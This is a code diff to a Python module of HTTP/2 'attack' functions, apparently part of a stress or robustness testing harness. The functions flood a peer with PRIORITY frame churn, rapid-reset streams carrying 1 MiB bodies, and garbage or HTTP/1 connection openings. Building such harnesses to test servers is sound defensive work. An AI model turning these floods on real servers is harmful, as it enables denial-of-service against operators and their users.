@@ -2,7 +2,6 @@
 
 import contextlib
 import os
-import random
 import struct
 
 import hpack
@@ -55,11 +54,10 @@ def window_overflow(peer):
 
 @attack("frames", closes=True)
 def priority_churn(peer):
-    rng = random.Random(peer.share)
-    churn = b"".join(
-        frame(PRIORITY, 0, 2 * rng.randrange(1, 5_000) + 1, struct.pack(">IB", 2 * rng.randrange(5_000, 10_000), rng.randrange(256)))
-        for _ in range(1_000))
-    flood(peer, churn)
+    def one(number):
+        return frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 2 * peer.random.randrange(5_000, 10_000), peer.random.randrange(256)))
+
+    flood(peer, b"".join(map(one, range(1_000))))
 
 
 @attack("frames", closes=True)
@@ -157,9 +155,11 @@ def rapid_reset_of_saves_of_1MiB(peer):
 
     def chunk(connection):
         stream = connection.take_stream()
-        return call(stream, SAVE_SECTION, payload) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+        connection.pump(frame(HEADERS, END_HEADERS, stream, SAVE_SECTION))
+        connection.send_body(stream, payload)
+        return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
 
-    flood(peer, chunk)
+    flood(peer, chunk, keeps=True)
 
 
 @attack("frames")
@@ -216,9 +216,9 @@ def connection_churn(peer):
 
 @attack("frames")
 def garbage_and_http1(peer):
-    rng = random.Random(peer.share)
+    openings = [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nXX", *[os.urandom(1 << size) for size in range(13)]]
     while peer.is_going():
         with contextlib.suppress(Closed), peer.connect(preface=False) as connection:
-            connection.pump(rng.choice([os.urandom(rng.randrange(1, 5_000)), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nXX"]))
+            connection.pump(peer.random.choice(openings))
             peer.pause(0.001)
             connection.drain()
